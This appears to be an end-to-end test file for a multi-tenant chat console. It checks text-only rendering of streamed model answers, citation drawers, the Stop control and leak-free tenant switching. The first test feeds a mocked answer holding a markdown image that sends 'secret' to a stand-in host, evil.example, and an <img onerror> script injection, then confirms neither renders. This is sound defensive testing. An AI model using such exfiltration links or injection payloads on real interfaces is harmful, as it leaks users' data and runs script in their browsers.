import { afterEach, describe, expect, it } from 'vitest';
import { browserStorage, filesContaining, openConsole, screenshot, storeSnapshot, type Console } from './harness.js';
import { startModelServer, type ModelServer } from './model-server.js';
import { ask, setUpChat } from './chat-setup.js';

let c: Console | null = null;
let model: ModelServer | null = null;
afterEach(async () => {
  await c?.close();
  await model?.close();
  c = null;
  model = null;
});

const CANARY = 'MARMOTCANARY5521';

describe('chat in the console', () => {
  it('streams an answer from a loopback model, as text only, with a citation that opens its passage', async () => {
    model = await startModelServer();
    c = await openConsole();
    const { page } = c;
    await setUpChat(page, model, CANARY);
    model.answer('It renews each March [S1]. ![pixel](http://evil.example/p.png?d=secret) <img src=x onerror="document.title=1">', 120);
    await ask(page, 'When does the contract renew?');
    await page.locator('.caret').waitFor();
    await page.getByTestId('citation-inline').first().waitFor({ timeout: 20_000 });
    await screenshot(page, '13-chat');
    const answer = page.getByTestId('answer').last();
    expect(await answer.innerText()).toContain('<img src=x');
    expect(await answer.locator('img').count()).toBe(0);
    expect(await page.title()).toBe('Bulkhead');
    // The model saw this tenant's passage, fenced in its context.
    expect(JSON.stringify(model.requests.at(-1))).toContain(CANARY);
    await page.getByTestId('citation-inline').first().click();
    await expect.poll(() => page.getByTestId('passage-drawer').innerText()).toContain(CANARY);
    await screenshot(page, '14-chat-citation');
  });

  it('stop ends a streaming answer; a switch drops the rest of it and nothing reaches the next tenant', async () => {
    model = await startModelServer();
    c = await openConsole();
    const { page } = c;
    await setUpChat(page, model, CANARY);
    model.answer(`${'slow words '.repeat(60)} ${CANARY}-LATE`, 60);
    await ask(page, 'Tell me everything.');
    await expect.poll(() => page.getByTestId('answer').last().innerText()).toContain('slow words');
    await page.getByRole('button', { name: 'Stop' }).click();
    await expect.poll(() => page.getByTestId('answer').last().innerText()).toContain('Stopped.');

    await ask(page, 'Again, please.');
    await expect.poll(() => page.getByTestId('answer').last().innerText()).toContain('slow words');
    await page.getByTestId('tenant-switcher').click();
    await page.getByPlaceholder('New client name').fill('Other Client');
    await page.getByRole('button', { name: 'Create client' }).click();
    await page.getByTestId('open-tenant-name').filter({ hasText: 'Other Client' }).waitFor();
    await new Promise((r) => setTimeout(r, 1500));
    const html = await page.content();
    expect(html).not.toContain('slow words');
    expect(html).not.toContain(CANARY);
    const stores = await storeSnapshot(page);
    expect(stores).not.toContain('slow words');
    expect(stores).not.toContain('Marmot Analytics');
    expect(await browserStorage(page)).toEqual({ local: 0, session: 0, idb: 0, caches: 0, cookies: '' });
    await c.context.close();
    expect(filesContaining(c.profileDir, CANARY)).toEqual([]);
    expect(filesContaining(c.profileDir, 'slow words')).toEqual([]);
  });
});
